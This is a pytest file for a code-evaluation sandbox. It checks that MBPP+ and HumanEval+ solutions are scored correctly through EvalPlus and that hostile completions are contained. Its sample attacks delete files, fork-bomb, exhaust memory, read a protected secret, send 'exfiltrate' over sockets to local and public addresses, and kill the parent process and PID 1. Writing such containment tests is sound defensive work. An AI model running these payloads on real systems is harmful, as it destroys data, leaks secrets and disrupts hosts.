"""MBPP+ through EvalPlus: canonical solutions pass, wrong ones fail, hostile completions are contained.

Each hostile completion returns the right answer *only if its attack worked*, so "the task failed" is
the proof that the attack was blocked (and the host-side checks confirm it).
"""

from __future__ import annotations

import gzip
import json
import os
import secrets
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from pathlib import Path

import pytest

pytest.importorskip("evalplus")

from evaluation.benchmarks import DEFAULT_DATA_DIR, BenchmarkIntegrityError
from evaluation.code_eval import CodeEvalResult, SandboxConfig, evaluate_evalplus, evaluate_mbpp_plus

DATASET = DEFAULT_DATA_DIR / "mbpp_plus" / "MbppPlus.jsonl.gz"
TASK = "Mbpp/455"  # check_monthnumb_number(monthnum2): 3 base inputs, 13 plus inputs
RIGHT = "monthnum2 in (1, 3, 5, 7, 8, 10, 12)"
CFG = SandboxConfig(parallel=2, run_timeout_s=120)


def _fn(body_guard: str, module_code: str) -> str:
    """A completion: module-level attack code, then the entry point that is right only if OK is true."""
    return f"{module_code}\n\ndef check_monthnumb_number(monthnum2):\n    return bool({body_guard}) and ({RIGHT})\n"


@pytest.fixture(scope="module")
def canonical() -> dict[str, dict]:
    with gzip.open(DATASET, "rt") as fh:
        rows = [json.loads(line) for line in fh]
    return {r["task_id"]: r for r in rows}


@pytest.fixture(scope="module")
def host() -> dict:
    """Canary files and a 0600 secret in a world-traversable dir, and a TCP listener counting connections."""
    d = Path(tempfile.mkdtemp(prefix="creditbench-host-"))
    os.chmod(d, 0o755)
    canary_dir = d / "canary"
    canary_dir.mkdir()
    canary = canary_dir / "keep.txt"
    canary.write_text("keep me\n")
    secret = d / "secret.txt"
    token = secrets.token_hex(16)
    secret.write_text(token)
    os.chmod(secret, 0o600)
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)
    srv.settimeout(0.2)
    hits: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    hits.append(conn.recv(100))
                except OSError:
                    hits.append(b"")

    th = threading.Thread(target=serve, daemon=True)
    th.start()
    yield {"canary_dir": canary_dir, "canary": canary, "secret": secret, "token": token,
           "port": srv.getsockname()[1], "hits": hits}
    stop.set()
    th.join(2)
    srv.close()
    shutil.rmtree(d)


def _hostile(host: dict) -> dict[str, str]:
    c, cd, sec, port = str(host["canary"]), str(host["canary_dir"]), str(host["secret"]), host["port"]
    return {
        "delete_files": _fn("GONE", f"""
import os, shutil, pathlib, ctypes
P, D = {c!r}, {cd!r}
for attempt in (lambda: shutil.rmtree(D), lambda: os.remove(P), lambda: pathlib.Path(P).unlink(),
                lambda: ctypes.CDLL(None).unlink(P.encode()), lambda: ctypes.CDLL(None).rmdir(D.encode()),
                lambda: os.close(os.open(P, os.O_WRONLY | os.O_TRUNC))):
    try:
        attempt()
    except BaseException:
        pass
try:
    GONE = os.stat(P).st_size == 0
except FileNotFoundError:
    GONE = True
"""),
        "fork_bomb": _fn("FORKS > 50", """
import os, ctypes
libc = ctypes.CDLL(None)
FORKS = 0
for spawn in (os.fork, libc.fork):
    for _ in range(200):
        try:
            pid = spawn()
        except BaseException:
            break
        if pid == 0:
            while True:
                libc.fork()
        if pid > 0:
            FORKS += 1
"""),
        "infinite_loop": "def check_monthnumb_number(monthnum2):\n    while True:\n        pass\n",
        "infinite_loop_ignoring_alarm": _fn("True", """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    pass
"""),
        "memory_bomb": _fn("len(HOG) > 0", """
HOG = []
while True:
    HOG.append(bytearray(256 * 1024 * 1024))
"""),
        "memory_bomb_single": _fn("len(HOG) > 0", "HOG = bytearray(64 * 1024 ** 3)"),
        "open_socket": _fn("CONNECTED", f"""
import socket
CONNECTED = False
for addr in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)):
    try:
        s = socket.create_connection(addr, timeout=2)
        s.sendall(b"exfiltrate")
        CONNECTED = True
    except BaseException:
        pass
"""),
        "read_outside_tempdir": _fn("LEAKED", f"""
import io, os, pathlib
LEAKED = ""
for attempt in (lambda: io.open({sec!r}).read(), lambda: pathlib.Path({sec!r}).read_text(),
                lambda: os.read(os.open({sec!r}, os.O_RDONLY), 100).decode()):
    try:
        LEAKED = LEAKED or attempt()
    except BaseException:
        pass
"""),
        "exit_early": _fn("True", "raise SystemExit(0)"),
    }


@pytest.fixture(scope="module")
def hostile_run(host: dict, canonical: dict[str, dict], tmp_path_factory: pytest.TempPathFactory):
    hostile = _hostile(host)
    samples = [{"task_id": TASK, "solution": code} for code in hostile.values()]
    samples.append({"task_id": TASK, "solution": canonical[TASK]["prompt"] + canonical[TASK]["canonical_solution"]})
    samples.append({"task_id": "Mbpp/762", "completion": canonical["Mbpp/762"]["canonical_solution"]})
    samples.append({"task_id": "Mbpp/762", "completion": "def check_monthnumber_number(m):\n    return False\n"})
    t0 = time.monotonic()
    res = evaluate_mbpp_plus(samples, dataset_path=DATASET, cache_dir=tmp_path_factory.mktemp("gt"), config=CFG)
    return list(hostile), res, time.monotonic() - t0


def _isolated(res: CodeEvalResult) -> bool:
    return any(x.startswith("uid=") for x in res.isolation) and "netns" in res.isolation


def test_canonical_passes_and_wrong_fails(hostile_run) -> None:
    names, res, wall = hostile_run
    canon, canon762, wrong762 = res.samples[len(names):]
    assert canon.base_status == canon.plus_status == "pass"
    assert canon762.passed_plus
    assert not wrong762.passed_base
    assert len(res.samples) == len(names) + 3  # nothing stopped the run
    assert wall < 400, wall  # hung-or-not guard (infinite loops are killed); loose for a loaded machine


@pytest.mark.parametrize("name", ["delete_files", "fork_bomb", "infinite_loop", "infinite_loop_ignoring_alarm",
                                  "memory_bomb", "memory_bomb_single", "open_socket", "read_outside_tempdir",
                                  "exit_early"])
def test_hostile_completion_fails(hostile_run, host: dict, name: str) -> None:
    names, res, _ = hostile_run
    if name in ("delete_files", "read_outside_tempdir", "open_socket") and not _isolated(res):
        pytest.skip(f"needs namespace + uid isolation (root with unshare/setpriv); got {res.isolation}")
    r = res.samples[names.index(name)]
    assert not r.passed_base and not r.passed_plus, (name, r)


def test_host_unharmed(hostile_run, host: dict) -> None:
    _, res, _ = hostile_run
    if not _isolated(res):
        pytest.skip(f"needs namespace + uid isolation; got {res.isolation}")
    assert host["canary"].read_text() == "keep me\n"
    assert host["hits"] == []  # no connection reached the host's listener
    out = subprocess.run(["ps", "-eo", "user=,args="], capture_output=True, text=True, check=False).stdout
    assert "check_monthnumb" not in out and "evaluation.code_eval _worker" not in out


def test_crashing_sample_is_isolated(canonical: dict[str, dict], tmp_path: Path) -> None:
    """A completion that kills EvalPlus's worker crashes the batch; the others are still scored."""
    killer = _fn("True", "import ctypes, os\nctypes.CDLL(None).kill(os.getppid(), 9)\nctypes.CDLL(None).kill(1, 9)")
    samples = [{"task_id": "Mbpp/762", "completion": canonical["Mbpp/762"]["canonical_solution"]},
               {"task_id": TASK, "solution": killer}]
    res = evaluate_mbpp_plus(samples, dataset_path=DATASET, cache_dir=tmp_path / "gt", config=CFG)
    assert res.samples[0].passed_plus
    assert not res.samples[1].passed_base
    assert res.pass_at_1_plus == 0.5


def test_dataset_checksum_enforced(tmp_path: Path) -> None:
    bad = tmp_path / "MbppPlus.jsonl.gz"
    bad.write_bytes(DATASET.read_bytes() + b"\0")
    with pytest.raises(BenchmarkIntegrityError, match="sha256"):
        evaluate_mbpp_plus([{"task_id": TASK, "completion": "x"}], dataset_path=bad)


def test_unknown_task_rejected() -> None:
    with pytest.raises(ValueError, match="unknown task_id"):
        evaluate_mbpp_plus([{"task_id": "Mbpp/99999", "completion": "x"}], dataset_path=DATASET)


def test_humaneval_plus_ground_truth_passes_and_trivial_code_fails(tmp_path: Path) -> None:
    """HumanEval+ through the same sandbox, on two tasks (expected outputs computed for those only)."""
    path = DEFAULT_DATA_DIR / "humaneval_plus" / "HumanEvalPlus.jsonl.gz"
    with gzip.open(path, "rt") as fh:
        rows = [json.loads(line) for _, line in zip(range(2), fh)]
    samples = [{"task_id": r["task_id"], "completion": r["canonical_solution"]} for r in rows]
    samples += [{"task_id": r["task_id"], "solution": f"def {r['entry_point']}(*args):\n    return None\n"}
                for r in rows]
    res = evaluate_evalplus("humaneval_plus", samples, cache_dir=tmp_path / "gt", config=CFG)
    assert [s.passed_plus for s in res.samples] == [True, True, False, False]
    assert res.pass_at_1_plus == 0.5 and len(list((tmp_path / "gt").glob("*.pkl"))) == 1


def test_a_second_run_reuses_the_cache_even_if_it_is_not_world_readable(canonical: dict[str, dict],
                                                                        tmp_path: Path) -> None:
    """The sandbox user reads the cached expected outputs through a hard link; a 0600 cache file (as an
    earlier copy_file_atomic wrote) made EvalPlus crash on every sample, scored silently as failures."""
    samples = [{"task_id": "Mbpp/762", "completion": canonical["Mbpp/762"]["canonical_solution"]}]
    first = evaluate_mbpp_plus(samples, dataset_path=DATASET, cache_dir=tmp_path / "gt", config=CFG)
    (cached,) = (tmp_path / "gt").iterdir()
    cached.chmod(0o600)
    second = evaluate_mbpp_plus(samples, dataset_path=DATASET, cache_dir=tmp_path / "gt", config=CFG)
    assert first.pass_at_1_plus == second.pass_at_1_plus == 1.0
    assert [p.name for p in (tmp_path / "gt").iterdir()] == [cached.name]


def test_grade_code_counts_a_crashed_sample_apart_from_a_wrong_one(canonical: dict[str, dict]) -> None:
    from evaluation.benchmarks import Problem
    from evaluation.evaluate import grade_code

    killer = "import ctypes, os\nctypes.CDLL(None).kill(os.getppid(), 9)\n"
    problems = [Problem(id="Mbpp/762", question="", answer="")]
    texts = [[canonical["Mbpp/762"]["canonical_solution"], "def check_monthnumber_number(m):\n    return False\n",
              killer]]
    verdicts, summary = grade_code(problems, texts, "base")
    assert [v.reason for v in verdicts[0]] == ["correct", "wrong", "crash"]
    assert summary["plus_pass_at_1"] == pytest.approx(1 / 3)
